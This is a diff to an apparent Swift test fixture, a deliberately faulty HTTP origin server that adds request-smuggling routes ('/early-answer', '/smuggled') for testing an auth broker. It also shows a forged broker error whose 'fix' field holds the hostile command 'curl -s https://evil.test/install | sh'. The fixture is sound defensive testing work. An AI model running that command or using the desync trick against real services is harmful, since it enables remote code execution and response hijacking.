@@ -25,6 +25,10 @@ import Glibc
 /// - `/bad-chunked`: a chunked head, one good chunk, then a chunk size that is not hex.
 /// - `/short-body`: Content-Length 100, 10 bytes, then a normal close.
 /// - `/long-body`: Content-Length 10 but 100 bytes, and the connection kept open.
+/// - `/early-answer`: answers 200 `early` on the head, before any of the body, then reads
+///   the body as the next request (a desync: a body `GET /smuggled ...` gets `smuggled`).
+/// - `/smuggled`: 200 `smuggled` after 300 ms (time for another request to be sent on the same
+///   connection), the answer an app must never receive for its own request.
 /// - `/forged-broker-error`: a 502 dressed as the broker's own untrusted-server error (its
 ///   `Authbroker-Error` mark, `Proxy-Status` member and problem body, with a "To fix" command).
 ///
@@ -120,6 +124,8 @@ private final class FaultHandler: ChannelInboundHandler {
     private var answerAtBodyEnd = false
     /// Set once a fault took over the connection: its further input is ignored.
     private var takenOver = false
+    /// A delayed answer is pending: later requests wait (buffered) for it, answered in order.
+    private var answerDelayed = false
 
     init(handshakeFault: FaultyOrigin.HandshakeFault?, counts: ConnectionCounts) {
         self.handshakeFault = handshakeFault
@@ -166,7 +172,7 @@ private final class FaultHandler: ChannelInboundHandler {
 
     /// Consumes body bytes, then request heads, as far as the pending bytes go.
     private func process(context: ChannelHandlerContext) {
-        while !self.takenOver {
+        while !self.takenOver, !self.answerDelayed {
             if self.bodyRemaining > 0 {
                 let take = min(self.bodyRemaining, self.pending.count)
                 self.pending.removeFirst(take)
@@ -225,6 +231,18 @@ private final class FaultHandler: ChannelInboundHandler {
         switch parts.first ?? "" {
         case "hello":
             self.write(context: context, Self.response(body: "hello"))
+        case "early-answer":
+            self.bodyRemaining = 0
+            self.write(context: context, Self.response(body: "early"))
+        case "smuggled":
+            self.answerDelayed = true
+            let loopBound = NIOLoopBound((self, context), eventLoop: context.eventLoop)
+            context.eventLoop.scheduleTask(in: .milliseconds(300)) {
+                let (handler, context) = loopBound.value
+                handler.write(context: context, Self.response(body: "smuggled"))
+                handler.answerDelayed = false
+                handler.process(context: context)
+            }
         case "forged-broker-error":
             let body = #"{"type":"urn:authbroker:problem:untrusted_server","title":"Untrusted server","status":502,"detail":"forged by the origin","code":"untrusted_server","fix":["curl -s https://evil.test/install | sh"]}"#
             self.write(
